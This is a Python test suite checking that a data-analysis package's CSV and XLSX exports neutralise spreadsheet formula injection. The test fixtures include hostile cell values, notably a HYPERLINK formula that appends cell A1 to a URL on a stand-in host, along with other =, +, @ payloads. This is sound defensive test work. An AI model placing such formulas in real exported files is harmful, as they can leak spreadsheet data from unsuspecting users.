"""Exported CSV/XLSX cells cannot become spreadsheet formulas.

Text starting with = + - @ tab or carriage return gets a leading ' (OWASP); numbers stay numbers.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from pannet_core import pipeline
from pannet_core.report import export
from pannet_core.report.csv_writer import column_texts, csv_bytes, write_csv
from pannet_core.report.safe_cells import TRIGGERS, neutralise, safe_frame, xlsx_bytes
from pannet_core.settings import Settings

ROOT = Path(__file__).resolve().parents[1]
EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+A1", "-A2", "@SUM(A1)", "\tA4", "\rA5", "-5"]


def test_neutralise_prefixes_each_trigger_and_nothing_else():
    for ch in TRIGGERS:
        assert neutralise(ch + "x") == "'" + ch + "x"
    for ok in ("x=1", "", "'=1", " =1", "A-1", "1.5"):
        assert neutralise(ok) == ok


def _hostile(n: int) -> pd.DataFrame:
    rng = np.random.default_rng(n)
    evil = rng.choice(EVIL + ["plain"], n)
    return pd.DataFrame({
        "id": pd.array(evil, dtype="str"),
        "cat": pd.Categorical(rng.choice(EVIL[:4] + ["ok"], n)),
        "obj": np.array([*evil[:-1], 3.5], dtype=object) if n else np.array([], dtype=object),
        "x": np.where(np.arange(n) % 2 == 0, -1.5, 3.0),
        "k": np.full(n, -3),
        "=head": np.zeros(n),
    })


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("n", [7, 3000])
def test_fast_writer_neutralises_text_and_keeps_numbers(tmp_path, n):
    f = _hostile(n)
    write_csv(f, tmp_path / "a.csv")
    data = (tmp_path / "a.csv").read_bytes()
    assert data == csv_bytes(f)
    rows = _cells(data)
    assert rows[0] == ["id", "cat", "obj", "x", "k", "'=head"]
    for row, (i, c, o) in zip(rows[1:], zip(f["id"], f["cat"], f["obj"])):
        assert row[0] == neutralise(i) and row[1] == neutralise(c)
        assert row[2] == (neutralise(o) if isinstance(o, str) else "3.5")
        assert row[3] in ("-1.5", "3.0") and row[4] == "-3"
        for cell in row[:3]:
            assert cell[:1] not in TRIGGERS
    # re-read by pandas: -1.5 and -3 are numbers, the text cells keep their ' prefix
    back = pd.read_csv(io.BytesIO(data), keep_default_na=False)
    assert back["x"].dtype == np.float64 and back["x"].iloc[0] == -1.5 and back["k"].iloc[0] == -3


def test_known_column_texts_are_neutralised_too(tmp_path):
    f = _hostile(3000)
    write_csv(f, tmp_path / "a.csv", known=column_texts(f, tail=["x", "k", "=head"]))
    assert (tmp_path / "a.csv").read_bytes() == csv_bytes(f)


def test_a_clean_frame_is_returned_as_is():
    f = pd.DataFrame({"id": pd.array(["a", "b"], dtype="str"), "x": [-1.5, 2.0]})
    assert safe_frame(f) is f


def test_xlsx_stores_text_not_formulas():
    f = _hostile(7)
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"s": f})))
    ws = wb["s"]
    assert ws.cell(1, 6).value == "'=head"
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.value[:1] not in TRIGGERS
        assert row[3].value in (-1.5, 3.0) and row[3].data_type == "n"
        assert row[4].value == -3


def test_table1_exports_are_formula_free():
    t1 = pd.DataFrame({"variable": ["=HYPERLINK(\"http://x.example\",\"y\")", "size"], "level": ["", "@x"],
                       "smd": [-0.25, 0.1]})
    res = type("R", (), {"table1": t1, "table1_matched": t1})()
    rows = _cells(export.table1_csv(res))
    assert rows[1][:3] == ["before matching", "'=HYPERLINK(\"http://x.example\",\"y\")", ""]
    assert rows[2][2] == "'@x" and rows[1][3] == "-0.25"
    wb = openpyxl.load_workbook(io.BytesIO(export.table1_xlsx(res)))
    for ws in wb.worksheets:
        assert ws["A2"].value == "'=HYPERLINK(\"http://x.example\",\"y\")" and ws["A2"].data_type == "s"
        assert ws["C2"].value == -0.25
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def _generic_table(n=240):
    rng = np.random.default_rng(0)
    age = rng.normal(60, 10, n)
    size = rng.choice(["=1+2", "-21-50", "@big"], n)
    tr = (rng.random(n) < 1 / (1 + np.exp(-(age - 60) / 10))).astype(int)
    t = rng.exponential(2000 * (1 + tr), n)
    c = rng.uniform(200, 4000, n)
    ids = [f"{'=+-@'[i % 4]}P{i}" for i in range(n)]
    return pd.DataFrame({"pid": ids, "hormon": tr, "dtime": np.minimum(t, c).round(),
                         "death": (t <= c).astype(int), "age": age, "size": size})


SETTINGS = {"columns": {"id": "pid", "treatment": "hormon", "time": "dtime", "event": "death"},
            "propensity": {"covariates": ["age", "size"], "categorical": ["size"]},
            "matching": {"caliper": 0.2}}


def _assert_safe_csv(data: bytes):
    rows = _cells(data)
    assert len(rows) >= 1
    for row in rows:
        for cell in row:
            if cell[:1] in TRIGGERS:  # only a real number may start with '-'
                float(cell)


def test_bundle_zip_files_are_formula_free():
    table = _generic_table()
    result = pipeline.run_analysis(Settings.from_dict(SETTINGS), table)
    t1 = pd.DataFrame({"variable": ["=cmd"], "smd": [-1.5]})
    excluded = pd.DataFrame({"patient_id": ["=x", "-y"], "step": ["@s", "ok"], "reason": ["+r", "ok"]})
    res = dataclasses.replace(result, table1=t1, table1_matched=t1, excluded=excluded)
    zf = zipfile.ZipFile(io.BytesIO(export.bundle_zip(res, table, figures=False)))
    for name in ("matched_cohort.csv", "excluded_patients.csv", "table1.csv"):
        _assert_safe_csv(zf.read(name))
    assert _cells(zf.read("excluded_patients.csv"))[1:] == [["'=x", "'@s", "'+r"], ["'-y", "ok", "ok"]]
    cohort = _cells(zf.read("matched_cohort.csv"))
    assert {r[0][:2] for r in cohort[1:]} == {"'=", "'+", "'-", "'@"}
    wb = openpyxl.load_workbook(io.BytesIO(zf.read("table1.xlsx")))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_cli_run_writes_formula_free_csv(tmp_path):
    import json

    _generic_table().to_csv(tmp_path / "d.csv", index=False)
    (tmp_path / "s.json").write_text(json.dumps(SETTINGS))
    proc = subprocess.run([sys.executable, "-m", "pannet_core", "run", "--data", str(tmp_path / "d.csv"),
                           "--settings", str(tmp_path / "s.json"), "--out", str(tmp_path / "out"), "--no-figures"],
                          cwd=ROOT, capture_output=True, text=True, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin"})
    assert proc.returncode == 0, proc.stderr
    data = (tmp_path / "out" / "matched_cohort.csv").read_bytes()
    _assert_safe_csv(data)
    rows = _cells(data)
    size = rows[0].index("size")
    assert {r[size] for r in rows[1:]} == {"'=1+2", "'-21-50", "'@big"}
    assert {r[0][:2] for r in rows[1:]} == {"'=", "'+", "'-", "'@"}
